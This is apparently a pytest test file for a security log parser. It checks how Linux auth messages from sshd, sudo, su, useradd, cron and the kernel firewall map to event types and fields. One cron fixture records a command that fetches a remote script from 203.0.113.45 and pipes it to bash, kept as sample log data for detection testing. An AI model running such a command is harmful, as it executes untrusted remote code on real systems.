"""interpret(): program + message -> event type and fields."""

from __future__ import annotations

import pytest

from sealtrail.analysis.parsers.auth_messages import interpret


@pytest.mark.parametrize(("program", "message", "event_type", "fields"), [
    ("sshd", "Accepted password for deploy from 203.0.113.45 port 51122 ssh2", "logon_success",
     {"user": "deploy", "src_ip": "203.0.113.45", "src_port": 51122}),
    ("sshd", "Failed password for invalid user test from 203.0.113.45 port 4 ssh2",
     "logon_failure", {"user": "test"}),
    ("sshd-session", "Failed publickey for root from ::1 port 4 ssh2", "logon_failure",
     {"src_ip": "::1"}),
    ("sshd", "Invalid user oracle from 203.0.113.45 port 5", "logon_failure", {"user": "oracle"}),
    ("sshd", "pam_unix(sshd:session): session closed for user deploy", "logoff",
     {"user": "deploy"}),
    ("sshd", "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)",
     "other", {"user": "deploy"}),
    ("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
     "ruser= rhost=203.0.113.45  user=root", "other", {"user": "root", "src_ip": "203.0.113.45"}),
    ("sshd", "Disconnected from user deploy 203.0.113.45 port 51188", "other",
     {"user": "deploy"}),
    ("sshd", "Connection closed by authenticating user root 203.0.113.45 port 3 [preauth]",
     "other", {"user": "root"}),
    ("sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -u",
     "privilege_use", {"user": "alice", "target_user": "root", "command_line": "/usr/bin/id -u"}),
    ("sudo", "deploy : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/deploy ; "
     "USER=root ; COMMAND=/usr/bin/su -", "privilege_use", {"command_line": "/usr/bin/su -"}),
    ("sudo", "pam_unix(sudo:auth): authentication failure; logname=deploy uid=1001 euid=0 "
     "tty=/dev/pts/1 ruser=deploy rhost=  user=deploy", "other", {"user": "deploy"}),
    ("su", "(to root) alice on pts/0", "privilege_use", {"user": "alice", "target_user": "root"}),
    ("su", "FAILED SU (to root) alice on pts/0", "privilege_use", {"user": "alice"}),
    ("useradd", "new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, "
     "shell=/bin/bash, from=/dev/pts/1", "account_created", {"target_user": "backup2"}),
    ("useradd", "new group: name=backup2, GID=1002", "account_changed", {}),
    ("groupadd", "group added to /etc/group: name=ops, GID=1003", "account_changed", {}),
    ("usermod", "add 'backup2' to group 'sudo'", "group_membership_changed",
     {"target_user": "backup2"}),
    ("usermod", "add 'backup2' to shadow group 'sudo'", "other", {"target_user": "backup2"}),
    ("usermod", "change user 'backup2' password", "account_changed", {"target_user": "backup2"}),
    ("passwd", "pam_unix(passwd:chauthtok): password changed for bob", "account_changed",
     {"target_user": "bob"}),
    ("chpasswd", "pam_unix(chpasswd:chauthtok): password changed for bob", "account_changed", {}),
    ("userdel", "delete user 'bob'", "account_deleted", {"target_user": "bob"}),
    ("CRON", "(deploy) CMD (curl -s http://203.0.113.45/x.sh | bash)", "other",
     {"user": "deploy", "command_line": "curl -s http://203.0.113.45/x.sh | bash"}),
    ("crontab", "(deploy) REPLACE (deploy)", "scheduled_task_created", {"user": "deploy"}),
    ("kernel", "[    0.000000] Linux version 5.15.0-101-generic (buildd@x) #111", "system_boot",
     {}),
    ("kernel", "[ 9.1] [UFW BLOCK] IN=ens3 OUT= SRC=203.0.113.45 DST=192.0.2.10 PROTO=TCP "
     "SPT=4 DPT=22", "network_connection", {"src_ip": "203.0.113.45", "dst_ip": "192.0.2.10"}),
    ("systemd", "Startup finished in 2.1s (kernel) + 5s (userspace) = 7.1s.", "other", {}),
    ("systemd-logind", "New session 5 of user deploy.", "other", {"user": "deploy"}),
    ("systemd-logind", "System is rebooting.", "system_shutdown", {}),
    ("/usr/sbin/cron", "(root) CMD (true)", "other", {"command_line": "true"}),
    ("unknown", "Accepted password for x from 1.2.3.4 port 1 ssh2", "other", {}),
])
def test_interpret(program: str, message: str, event_type: str, fields: dict) -> None:
    meaning = interpret(program, message)
    assert meaning.event_type == event_type
    for key, value in fields.items():
        assert getattr(meaning, key) == value, key


def test_sudo_failure_is_marked() -> None:
    meaning = interpret("sudo", "eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; "
                                "COMMAND=/bin/sh")
    assert meaning.attributes["success"] is False
    assert meaning.attributes["reason"] == "user NOT in sudoers"
